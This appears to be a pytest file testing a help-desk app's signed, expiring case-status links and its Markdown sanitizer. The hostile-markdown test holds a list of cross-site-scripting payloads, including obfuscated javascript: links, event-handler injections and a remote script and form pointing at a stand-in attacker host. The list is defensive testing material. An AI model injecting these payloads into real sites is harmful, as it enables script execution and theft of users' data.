"""Knowledge base rules, the status links' signatures and expiry, and the Markdown renderer
against a hostile corpus."""

from __future__ import annotations

import re
from datetime import UTC, datetime, timedelta
from html.parser import HTMLParser
from uuid import uuid4

import pytest

from channels.web.safe_markdown import render
from commands.case_links import (
    CaseLinkError,
    CaseLinkExpiredError,
    check_status_token,
    status_link_for,
    status_token,
)
from domain.knowledge import ArticleStateError, check_fields

SECRET = "unit-test-secret-0123456789"
NOW = datetime(2026, 11, 24, 9, 30, tzinfo=UTC)


def test_a_status_link_names_its_case_and_customer_until_it_expires() -> None:
    case, customer = uuid4(), uuid4()
    link = status_link_for(SECRET, case, customer, NOW, base_url="https://hub.example/",
                           ttl_s=3600)
    assert link.startswith("https://hub.example/help/cases/")
    token = link.rsplit("/", 1)[1]
    found = check_status_token(SECRET, token, NOW + timedelta(minutes=59))
    assert (found.case_id, found.customer_id) == (case, customer)
    with pytest.raises(CaseLinkExpiredError):
        check_status_token(SECRET, token, NOW + timedelta(hours=1))


@pytest.mark.parametrize("tamper", ["other-case", "other-customer", "later-expiry", "mac",
                                    "secret", "shape", "upper-case"])
def test_a_changed_or_foreign_status_link_is_refused_as_not_ours(tamper: str) -> None:
    case, customer = uuid4(), uuid4()
    token = status_token(SECRET, case, customer, NOW, ttl_s=60)
    c, p, e, mac = token.split(".")
    bad = {
        "other-case": f"{uuid4()}.{p}.{e}.{mac}",
        "other-customer": f"{c}.{uuid4()}.{e}.{mac}",
        "later-expiry": f"{c}.{p}.{int(e) + 86400}.{mac}",
        "mac": f"{c}.{p}.{e}.{mac[:-2]}AA",
        "secret": status_token("another-secret-0123456789", case, customer, NOW, ttl_s=60),
        "shape": f"{c}.{p}.{mac}",
        "upper-case": f"{c.upper()}.{p}.{e}.{mac}",
    }[tamper]
    with pytest.raises(CaseLinkError) as raised:
        check_status_token(SECRET, bad, NOW)
    assert not isinstance(raised.value, CaseLinkExpiredError)


def test_an_expired_forgery_is_refused_as_forged_not_as_expired() -> None:
    token = status_token(SECRET, uuid4(), uuid4(), NOW, ttl_s=60)
    c, _p, e, mac = token.split(".")
    with pytest.raises(CaseLinkError) as raised:
        check_status_token(SECRET, f"{c}.{uuid4()}.{e}.{mac}", NOW + timedelta(days=1))
    assert not isinstance(raised.value, CaseLinkExpiredError)


def test_article_fields_are_checked_and_tags_made_canonical() -> None:
    assert check_fields("T", "B", ["Boiler", " power ", "boiler", ""], "en", "public") == [
        "boiler", "power"]
    for bad in (("", "B", "en", "public"), ("T", " ", "en", "public"),
                ("T", "B", "en", "secret")):
        with pytest.raises(ArticleStateError):
            check_fields(bad[0], bad[1], [], bad[2], bad[3])


HOSTILE = [
    "<script>window.__pwned = 1</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<img src=x onerror=\"window.__pwned=1\">",
    "<svg onload=alert(1)>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<a href=\"javascript:alert(1)\">raw link</a>",
    "[click](javascript:alert(1))",
    "[click](JAVASCRIPT:alert(1))",
    "[click](java\tscript:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](jav&#x09;ascript:alert(1))",
    "[click](%6Aavascript:alert(1))",
    "[click]( javascript:alert(1))",
    "[click](<javascript:alert(1)>)",
    "[ref][x]\n\n[x]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "[click](vbscript:msgbox(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![x](javascript:alert(1))",
    "![x\" onerror=\"alert(1)](https://example.org/a.png)",
    "[x](https://example.org \"title\\\" onmouseover=\\\"alert(1)\")",
    "<style>body{display:none}</style>",
    "<details open ontoggle=alert(1)>",
    "```html\n<script>alert(1)</script>\n```",
    "<!-- <script>alert(1)</script> -->",
    "<form action=https://evil.example><input name=p></form>",
    "<base href=\"https://evil.example/\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">",
]
_SAFE_TAGS = {"p", "a", "img", "code", "pre", "em", "strong", "ul", "ol", "li", "h1", "h2",
              "h3", "h4", "h5", "h6", "blockquote", "hr", "br"}


class _Tags(HTMLParser):
    """Every element and attribute as a browser's tokenizer sees them."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, attrs))


@pytest.mark.parametrize("source", HOSTILE)
def test_hostile_markdown_renders_as_inert_html(source: str) -> None:
    html = render(source)
    parser = _Tags()
    parser.feed(html)
    for tag, attrs in parser.found:
        assert tag in _SAFE_TAGS, html
        for name, value in attrs:
            assert name in ("href", "src", "alt", "title", "rel", "class"), html
            if name in ("href", "src"):
                bare = re.sub(r"[\x00-\x20]", "", value or "").lower()
                assert re.match(r"^(https?:|mailto:|/|#|[^:]*$)", bare), html


def test_ordinary_markdown_keeps_its_links_formatting_and_images() -> None:
    html = render("# Reset\n\nPress **Reset**. See [the manual](https://example.org/m.pdf) "
                  "or [our page](/help).\n\n![Panel](https://example.org/p.png)\n\n- one\n- two")
    assert "<h1>Reset</h1>" in html and "<strong>Reset</strong>" in html
    assert ('<a href="https://example.org/m.pdf" rel="nofollow noopener noreferrer">'
            "the manual</a>") in html
    assert '<img src="https://example.org/p.png" alt="Panel"' in html
    assert "<li>one</li>" in html
    assert "<p>Panel</p>" in render("![Panel](http://example.org/p.png)")  # https only
